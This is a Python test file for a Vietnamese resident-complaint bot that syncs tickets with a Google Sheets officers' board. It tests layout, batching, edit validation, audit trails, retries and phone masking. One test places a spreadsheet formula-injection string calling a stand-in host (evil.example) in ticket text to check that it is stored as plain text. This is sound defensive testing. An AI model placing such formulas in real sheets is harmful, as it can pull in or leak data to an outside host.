"""The officers' sheet, driven through the real gspread client against the fake Sheets API."""
from __future__ import annotations

import pytest
from sqlalchemy import select

from sheets_sync.layout import BOARD, COL, OFFICERS
from bot.runtime.sheets import sheet_syncer
from storage import tickets
from storage.db import session_scope
from storage.models import LearnedExample, Ticket, TicketEvent
from tests.support import message_text


@pytest.fixture()
def syncer(sheet_settings, no_backoff):
    return sheet_syncer(sheet_settings)


def make_ticket(text="Đèn đường ngõ 12 tổ 5 bị hỏng", resident=None, **kw) -> str:
    with session_scope() as s:
        t = tickets.create_ticket(s, kind=kw.pop("kind", "complaint"), text=text, actor="test",
                                  resident_id=resident, **kw)
        return t.code


def board(fake) -> list[list[str]]:
    return fake.state.rows(BOARD)


def row_of(fake, code) -> list[str]:
    return next(r for r in board(fake) if r and r[0] == code)


def find_row_index(fake, code) -> int:
    return next(i for i, r in enumerate(board(fake)) if r and r[0] == code)


def add_officer(fake, name="Nguyễn Văn An", zalo="900000000000000002"):
    fake.state.set_cell(OFFICERS, len(fake.state.sheets[OFFICERS].rows), 0, name)
    i = len(fake.state.sheets[OFFICERS].rows) - 1
    fake.state.set_cell(OFFICERS, i, 1, zalo)


def test_first_cycle_creates_formatted_board_and_pushes_tickets(syncer, fake_sheets):
    code = make_ticket(reporter_phone="0901234567", reporter_name="Bác Lan")
    report = syncer.run_cycle()
    sheet = fake_sheets.state.sheets[BOARD]
    assert board(fake_sheets)[0][:3] == ["Mã phiếu", "Thời gian nhận", "Kênh"]
    assert sheet.frozen_rows == 1
    ranges = {v["range"]["startColumnIndex"] for v in sheet.validations}
    assert {COL["Trạng thái"], COL["Người xử lý"], COL["Loại"], COL["Lĩnh vực"]} <= ranges
    protected = {p["range"]["startColumnIndex"] for p in sheet.protected}
    assert COL["Mã phiếu"] in protected and COL["Trạng thái"] not in protected
    row = row_of(fake_sheets, code)
    assert row[COL["Trạng thái"]] == "Mới tiếp nhận"
    assert row[COL["Người gửi"]] == "Bác Lan — 090****567"  # phone masked
    assert report.appended == 1


def test_resident_text_is_written_raw_never_as_a_formula(syncer, fake_sheets):
    code = make_ticket(text='=IMPORTXML("http://evil.example","//a")')
    syncer.run_cycle()
    i = find_row_index(fake_sheets, code)
    cell = fake_sheets.state.raw_cell(BOARD, i, COL["Nội dung"])
    assert cell.value.startswith("=IMPORTXML") and not cell.formula


def test_steady_state_costs_a_constant_small_number_of_requests(syncer, fake_sheets):
    for i in range(10):
        make_ticket(f"Rác thải ngõ {i}")
    syncer.run_cycle()
    small = syncer.run_cycle().requests
    for i in range(300):
        make_ticket(f"Ổ gà đường số {i}")
    assert syncer.run_cycle().requests <= 4  # new rows: one append
    big = syncer.run_cycle().requests
    assert small == big == 2  # nothing changed: metadata + one batchGet


def test_officer_edit_applied_audited_and_resident_notified(syncer, fake_sheets, bot):
    bot.say("Đèn đường ngõ 12 tổ 5 bị hỏng")
    bot.say("Không có ảnh")
    bot.say("Gửi phản ánh")
    with session_scope() as s:
        code = s.scalar(select(Ticket.code))
    syncer.run_cycle()
    add_officer(fake_sheets)
    i = find_row_index(fake_sheets, code)
    fake_sheets.state.set_cell(BOARD, i, COL["Người xử lý"], "Nguyễn Văn An")
    fake_sheets.state.set_cell(BOARD, i, COL["Trạng thái"], "Đã giải quyết")
    fake_sheets.state.set_cell(BOARD, i, COL["Trả lời người dân"], "Điện lực đã thay bóng đèn.")
    report = syncer.run_cycle()
    assert report.edits_applied == 3
    with session_scope() as s:
        t = s.scalar(select(Ticket))
        assert (t.status, t.assignee) == ("resolved", "Nguyễn Văn An")
        audit = {(e.field, e.old_value, e.new_value) for e in s.scalars(select(TicketEvent))}
    assert ("status", "new", "resolved") in audit and ("assignee", None, "Nguyễn Văn An") in audit
    bot.run_until_idle()
    msgs = [message_text(m) for m in bot.new_messages()]
    assert any("đã được giải quyết" in m and "thay bóng đèn" in m for m in msgs)
    assert any("1 đến 5 sao" in m for m in msgs)
    # replaying the same cycle changes nothing and sends nothing twice
    assert syncer.run_cycle().edits_applied == 0
    bot.run_until_idle()
    assert bot.new_messages() == []


def test_invalid_values_are_flagged_not_applied(syncer, fake_sheets):
    code = make_ticket()
    syncer.run_cycle()
    i = find_row_index(fake_sheets, code)
    fake_sheets.state.set_cell(BOARD, i, COL["Trạng thái"], "Xong rồi")
    fake_sheets.state.set_cell(BOARD, i, COL["Người xử lý"], "Người lạ")
    report = syncer.run_cycle()
    assert report.edits_applied == 0 and report.edits_rejected == 2
    row = row_of(fake_sheets, code)
    assert row[COL["Trạng thái"]] == "Mới tiếp nhận"  # the service's value is written back
    assert "Xong rồi" in row[COL["Ghi chú hệ thống"]] and "Người lạ" in row[COL["Ghi chú hệ thống"]]
    with session_scope() as s:
        assert s.scalar(select(Ticket.status)) == "new"


def test_rows_are_found_by_code_after_sorting_and_deleted_rows_restored(syncer, fake_sheets):
    codes = [make_ticket(f"Phản ánh số {i}") for i in range(5)]
    syncer.run_cycle()
    fake_sheets.state.sort_by_column(BOARD, COL["Nội dung"], reverse=True)
    i = find_row_index(fake_sheets, codes[1])
    fake_sheets.state.set_cell(BOARD, i, COL["Trạng thái"], "Đang xử lý")
    fake_sheets.state.delete_row(BOARD, find_row_index(fake_sheets, codes[3]))
    report = syncer.run_cycle()
    assert report.restored == 1 and report.edits_applied == 1
    with session_scope() as s:
        assert tickets.by_code(s, codes[1]).status == "in_progress"
        assert tickets.by_code(s, codes[0]).status == "new"
    assert sorted(r[0] for r in board(fake_sheets)[1:]) == sorted(codes)


def test_rows_with_unknown_or_empty_code_are_flagged_not_imported(syncer, fake_sheets):
    make_ticket()
    syncer.run_cycle()
    n = len(fake_sheets.state.sheets[BOARD].rows)
    fake_sheets.state.set_cell(BOARD, n, 0, "PA-2026-9999")
    fake_sheets.state.set_cell(BOARD, n, COL["Nội dung"], "dòng tự thêm")
    fake_sheets.state.set_cell(BOARD, n + 1, COL["Nội dung"], "không có mã")
    report = syncer.run_cycle()
    assert report.flagged == 2
    rows = board(fake_sheets)
    assert "không có trong hệ thống" in rows[n][COL["Ghi chú hệ thống"]]
    assert "không có Mã phiếu" in rows[n + 1][COL["Ghi chú hệ thống"]]
    with session_scope() as s:
        assert len(list(s.scalars(select(Ticket)))) == 1


def test_kind_and_topic_corrections_feed_learning(syncer, fake_sheets):
    code = make_ticket(text="Hàng xóm hát karaoke tới 1 giờ sáng", topic="environment")
    syncer.run_cycle()
    i = find_row_index(fake_sheets, code)
    fake_sheets.state.set_cell(BOARD, i, COL["Lĩnh vực"], "Văn hóa, tiếng ồn, khác")
    syncer.run_cycle()
    with session_scope() as s:
        ex = s.scalar(select(LearnedExample))
        assert ex is not None and ex.topic == "culture_other" and ex.source == "sheet"


def test_429_is_retried_boundedly_and_persistent_500_fails_cleanly(syncer, fake_sheets):
    from sheets_sync.client import SheetsUnavailable

    code = make_ticket()
    fake_sheets.state.fail(429, times=2)
    assert syncer.run_cycle().appended == 1
    i = find_row_index(fake_sheets, code)
    fake_sheets.state.set_cell(BOARD, i, COL["Trạng thái"], "Đang xử lý")
    fake_sheets.state.fail(500, times=100)
    with pytest.raises(SheetsUnavailable):
        syncer.run_cycle()
    with session_scope() as s:
        assert s.scalar(select(Ticket.status)) == "new"  # nothing half-applied
    fake_sheets.state.failures.clear()
    assert syncer.run_cycle().edits_applied == 1


def test_groups_and_announcements_tabs_are_read_and_answered(syncer, fake_sheets):
    from sheets_sync.tabs_announce import ANNOUNCEMENTS, GROUPS
    from storage.models import Announcement, ResidentialGroup

    syncer.run_cycle()
    st = fake_sheets.state
    for col, value in enumerate(["5", "Tổ dân phố 5", "800000000000000001", "", "120"]):
        st.set_cell(GROUPS, 1, col, value)
    for col, value in enumerate(["", "Tiêm chủng", "Thứ Bảy tiêm chủng tại trạm y tế", "", "5",
                                 "01/12/2026 08:00", "monthly:1:08:00"]):
        st.set_cell(ANNOUNCEMENTS, 1, col, value)
    for col, value in enumerate(["", "Họp tổ", "Họp tổ dân phố tối thứ Sáu", "", "", "sáng mai"]):
        st.set_cell(ANNOUNCEMENTS, 2, col, value)
    report = syncer.run_cycle()
    assert report.requests <= 4
    with session_scope() as s:
        group = s.scalar(select(ResidentialGroup))
        assert (group.code, group.leader_zalo_id, group.member_count) == ("5", "800000000000000001", 120)
        [ann] = s.scalars(select(Announcement)).all()
        assert ann.targets == ["5"] and ann.repeat == "monthly:1:08:00"
    rows = st.rows(ANNOUNCEMENTS)
    assert rows[1][0] == f"TB-{ann.id}" and rows[1][7].startswith("Đã lên lịch")
    assert rows[2][7].startswith("Lỗi") and rows[2][0] == ""
    assert syncer.run_cycle().requests == 2  # nothing new: steady again


def test_the_onedit_hook_names_the_editor_in_the_audit_trail(syncer, fake_sheets, sheet_settings):
    import json
    import time

    from bot.app import create_app
    from webhooks.signature import hmac_sha256

    code = make_ticket()
    syncer.run_cycle()
    i = find_row_index(fake_sheets, code)
    fake_sheets.state.set_cell(BOARD, i, COL["Trạng thái"], "Đang xử lý")
    client = create_app(sheet_settings.with_overrides(sheets_webhook_secret="s3")).test_client()
    raw = json.dumps({"code": code, "column": "Trạng thái", "new_value": "Đang xử lý",
                      "user": "hoa.mttq@example.com"}).encode()
    stamp = str(int(time.time()))
    resp = client.post("/webhooks/sheets", data=raw, headers={
        "X-Hts-Timestamp": stamp, "X-Hts-Signature": hmac_sha256("s3", stamp.encode(), b".", raw)})
    assert resp.status_code == 202
    syncer.run_cycle()
    with session_scope() as s:
        actors = {e.actor for e in s.scalars(select(TicketEvent).where(TicketEvent.field == "status"))}
    assert "sheet:hoa.mttq@example.com" in actors


# --- batching, layout, robustness ---------------------------------------------------------

def _many(n: int, start: int = 0) -> list[str]:
    with session_scope() as s:
        return [tickets.create_ticket(s, kind="complaint", text=f"Ổ gà đường số {i}", actor="test").code
                for i in range(start, start + n)]


def _touch(codes, answer):
    with session_scope() as s:
        for code in codes:
            tickets.change(s, tickets.by_code(s, code), "test", answer=answer)


def test_requests_per_cycle_do_not_grow_with_the_number_of_tickets(syncer, fake_sheets):
    small = _many(10)
    syncer.run_cycle()
    steady_small = syncer.run_cycle().requests
    _touch(small[:5], "Đã chuyển tổ trưởng xem xét")
    changed_small = syncer.run_cycle().requests
    big = small + _many(490, start=10)
    assert syncer.run_cycle().requests == 3  # metadata, batchGet, one append of 490 rows
    steady_big = syncer.run_cycle().requests
    _touch(big[-5:], "Đã chuyển tổ trưởng xem xét")
    changed_big = syncer.run_cycle().requests
    assert steady_small == steady_big == 2       # nothing changed: metadata + one batchGet
    assert changed_small == changed_big == 3     # + one values batchUpdate
    assert len(board(fake_sheets)) == 501


def test_layout_dropdowns_protection_and_repair(syncer, fake_sheets):
    from sheets_sync.layout import COLUMNS, EDITABLE
    from storage.vocab import STATUSES

    first = syncer.run_cycle()
    assert first.layout_changed
    sheet = fake_sheets.state.sheets[BOARD]
    assert sheet.frozen_rows == 1 and fake_sheets.state.sheets[OFFICERS].frozen_rows == 1
    assert sheet.validation_values(COL["Trạng thái"]) == list(STATUSES.values())
    assert sheet.validation_values(COL["Người xử lý"]) == [f"='{OFFICERS}'!$A$2:$A"]
    protected = sorted(p["range"]["startColumnIndex"] for p in sheet.protected)
    assert protected == [i for i, name in enumerate(COLUMNS) if name not in EDITABLE]
    assert all(not p["warningOnly"] for p in sheet.protected)
    assert not syncer.run_cycle().layout_changed
    # someone unfreezes the header and removes two protections: the next cycle repairs it once
    sheet.frozen_rows = 0
    del sheet.protected[:2]
    again = syncer.run_cycle()
    assert again.layout_changed and again.requests == 3
    assert sheet.frozen_rows == 1 and len(sheet.protected) == len(protected)
    assert syncer.run_cycle().requests == 2


def test_officer_zalo_id_mangled_into_a_number_is_flagged(syncer, fake_sheets):
    from storage.models import Officer

    syncer.run_cycle()
    fake_sheets.state.sheets[OFFICERS].text_columns.clear()  # an older sheet, no text format
    fake_sheets.state.set_cell(OFFICERS, 1, 0, "Trần Thị Hoa")
    fake_sheets.state.set_cell(OFFICERS, 1, 1, "900000000000000002")
    add_officer(fake_sheets, "Lê Văn Bình", "'900000000000000003")
    syncer.run_cycle()
    rows = fake_sheets.state.rows(OFFICERS)
    assert rows[1][1] == "9.00E+17" and "dãy số" in rows[1][3]
    assert len(rows[2]) < 4 or rows[2][3] == ""
    with session_scope() as s:
        got = {o.name: o.zalo_user_id for o in s.scalars(select(Officer))}
    assert got == {"Trần Thị Hoa": None, "Lê Văn Bình": "900000000000000003"}


def test_rejection_note_stays_until_a_valid_edit(syncer, fake_sheets):
    code = make_ticket()
    syncer.run_cycle()
    fake_sheets.state.set_cell(BOARD, find_row_index(fake_sheets, code), COL["Trạng thái"], "Xong")
    syncer.run_cycle()
    assert "Xong" in row_of(fake_sheets, code)[COL["Ghi chú hệ thống"]]
    assert syncer.run_cycle().requests == 2          # the note is not rewritten, nor cleared
    assert "Xong" in row_of(fake_sheets, code)[COL["Ghi chú hệ thống"]]
    fake_sheets.state.set_cell(BOARD, find_row_index(fake_sheets, code), COL["Trạng thái"], "Đang xử lý")
    assert syncer.run_cycle().edits_applied == 1
    assert row_of(fake_sheets, code)[COL["Ghi chú hệ thống"]] == ""


def test_duplicate_code_row_is_flagged_and_ignored(syncer, fake_sheets):
    code = make_ticket()
    syncer.run_cycle()
    n = len(fake_sheets.state.sheets[BOARD].rows)
    fake_sheets.state.set_cell(BOARD, n, 0, code)
    fake_sheets.state.set_cell(BOARD, n, COL["Trạng thái"], "Đóng")
    report = syncer.run_cycle()
    assert report.flagged == 1 and report.edits_applied == 0
    assert "bị trùng" in board(fake_sheets)[n][COL["Ghi chú hệ thống"]]
    with session_scope() as s:
        assert tickets.by_code(s, code).status == "new"


def test_write_failure_after_commit_applies_each_edit_exactly_once(syncer, fake_sheets):
    from sheets_sync.client import SheetsUnavailable

    code = make_ticket()
    syncer.run_cycle()
    fake_sheets.state.set_cell(BOARD, find_row_index(fake_sheets, code), COL["Trạng thái"], "Đang xử lý")
    make_ticket("Nước ngập đường Lê Lợi")                  # so the cycle has an append to make
    fake_sheets.state.fail(500, times=100, kind="values.append")
    with pytest.raises(SheetsUnavailable):
        syncer.run_cycle()
    fake_sheets.state.failures.clear()
    report = syncer.run_cycle()
    assert report.appended == 1 and report.edits_applied == 0
    with session_scope() as s:
        t = tickets.by_code(s, code)
        status_events = s.scalars(select(TicketEvent).where(TicketEvent.ticket_id == t.id,
                                                            TicketEvent.field == "status")).all()
    assert t.status == "in_progress" and len(status_events) == 1


def test_a_timed_out_append_that_landed_is_not_duplicated(syncer, fake_sheets, monkeypatch):
    from sheets_sync import client
    from sheets_sync.client import SheetsUnavailable

    monkeypatch.setattr(client, "TIMEOUT", (2, 0.3))
    syncer.run_cycle()
    codes = _many(3)
    fake_sheets.state.hang(1.0, kind="values.append")
    with pytest.raises(SheetsUnavailable):
        syncer.run_cycle()
    import time
    time.sleep(1.0)  # the fake finishes the append it was answering late
    report = syncer.run_cycle()
    assert report.appended == 0 and report.flagged == 0
    assert sorted(r[0] for r in board(fake_sheets)[1:]) == sorted(codes)


def test_service_changes_reach_the_row_in_place(syncer, fake_sheets):
    code = make_ticket(reporter_phone="0912345678")
    syncer.run_cycle()
    fake_sheets.state.sort_by_column(BOARD, COL["Mã phiếu"], reverse=True)
    with session_scope() as s:
        tickets.change(s, tickets.by_code(s, code), "system", status="forwarded", forwarded_to="Điện lực")
    assert syncer.run_cycle().updated == 1
    row = row_of(fake_sheets, code)
    assert row[COL["Trạng thái"]] == "Đã chuyển cơ quan có thẩm quyền"
    assert row[COL["Chuyển đến cơ quan"]] == "Điện lực"
    assert "0912345678" not in " ".join(row) and "091****678" in row[COL["Người gửi"]]
